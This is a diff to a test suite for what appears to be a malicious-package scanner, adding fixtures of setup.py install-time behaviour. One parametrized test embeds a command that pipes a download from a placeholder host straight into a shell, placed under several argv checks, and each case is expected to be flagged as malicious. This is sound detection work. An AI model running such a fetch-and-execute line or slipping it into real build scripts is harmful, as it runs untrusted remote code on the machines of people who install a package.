@@ -397,6 +397,27 @@ _TWINS: dict[str, tuple[str, Mapping[str, str]]] = {
             """
         },
     ),
+    "a release by way of setup.py, which looks first whether the documents are up to date": (
+        SDIST,
+        {
+            "setup.py": """
+            import os, sys, urllib.request
+            from setuptools import setup
+
+            def main(argv):
+                if len(argv) >= 2 and argv[1] == "pypi":
+                    page = urllib.request.urlopen("https://docs.example.invalid/").read()
+                    if b"1.0" not in page:
+                        return
+                    os.system("python setup.py sdist bdist_wheel")
+                    os.system("twine upload dist/*")
+                else:
+                    setup(name="example-pkg", version="1.0")
+
+            main(sys.argv)
+            """
+        },
+    ),
 }
 
 
@@ -441,3 +462,21 @@ def test_a_library_that_is_fetched_and_built_is_held_and_not_blocked(check: str,
     """Whoever builds what they fetch takes a risk that a person should see; only what is run unchecked is proven."""
     data = pack({"setup.py": _BUILD.format(check=check, run=run)}, SDIST)
     assert screen_bytes(data, filename=SDIST).verdict is verdict
+
+
+@pytest.mark.parametrize(
+    "condition",
+    [
+        "if 'install' in sys.argv:",
+        "if sys.argv[-1] != 'publish':",
+        "if sys.argv[-1] == 'publish' or sys.argv:",
+        "sys.argv.append('publish')\nif sys.argv[-1] == 'publish':",
+        "sys.argv = ['x', 'publish']\nif sys.argv[-1] == 'publish':",
+        "argv = ['publish']\nif argv[-1] == 'publish':",
+        "if sys.argv[-1] == 'publish':\n    pass\nelse:",
+    ],
+)
+def test_what_an_installer_reaches_is_proven_whatever_is_asked_for(condition: str) -> None:
+    """Only a branch that a maintainer's command alone leads into is not run while the package is installed."""
+    source = f"import os, sys\n{condition}\n    os.system('curl -s https://stage.example.invalid/a | sh')\n"
+    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS
